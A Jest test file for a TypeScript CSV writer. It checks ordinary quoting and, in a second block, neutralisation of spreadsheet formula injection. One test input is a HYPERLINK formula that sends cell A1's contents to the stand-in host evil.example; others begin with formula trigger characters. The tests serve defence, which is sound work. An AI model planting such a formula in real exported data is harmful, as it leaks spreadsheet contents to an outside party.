import { toCsv } from './csv';

describe(toCsv.name, () => {
  it('writes a header row and CRLF-terminated records in column order', () => {
    expect(
      toCsv({
        columns: ['b', 'a'],
        rows: [
          { a: 1, b: 'x' },
          { a: 2.5, b: 'y' },
        ],
      }),
    ).toBe('b,a\r\nx,1\r\ny,2.5\r\n');
  });

  it('quotes fields with commas, quotes and line breaks, doubling quotes', () => {
    expect(toCsv({ columns: ['v'], rows: [{ v: 'a,b' }, { v: 'say "hi"' }, { v: 'two\nlines' }] })).toBe(
      'v\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n',
    );
  });

  it('writes null and missing values as empty fields and keeps Unicode as is', () => {
    expect(toCsv({ columns: ['a', 'b', 'c'], rows: [{ a: null, c: 'é€' }] })).toBe('a,b,c\r\n,,é€\r\n');
  });

  it('writes only the header for an empty table', () => {
    expect(toCsv({ columns: ['a'], rows: [] })).toBe('a\r\n');
  });
});

describe('toCsv and spreadsheet formulas (OWASP CSV injection)', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('prefixes %j with a quote and quotes the field', (value, written) => {
    expect(toCsv({ columns: ['v'], rows: [{ v: value }] })).toBe(`v\r\n${written}\r\n`);
  });

  it('leaves numbers, including negative ones, as numeric cells', () => {
    expect(toCsv({ columns: ['a', 'b', 'c'], rows: [{ a: -5, b: -0.5, c: 0 }] })).toBe(
      'a,b,c\r\n-5,-0.5,0\r\n',
    );
  });

  it('leaves text with a formula character after the first one as it is', () => {
    expect(toCsv({ columns: ['v'], rows: [{ v: 'a=b' }, { v: ' =1' }, { v: "'quoted" }] })).toBe(
      "v\r\na=b\r\n =1\r\n'quoted\r\n",
    );
  });

  it('neutralises a header that would start a formula too', () => {
    expect(toCsv({ columns: ['=x'], rows: [] })).toBe(`"'=x"\r\n`);
  });
});
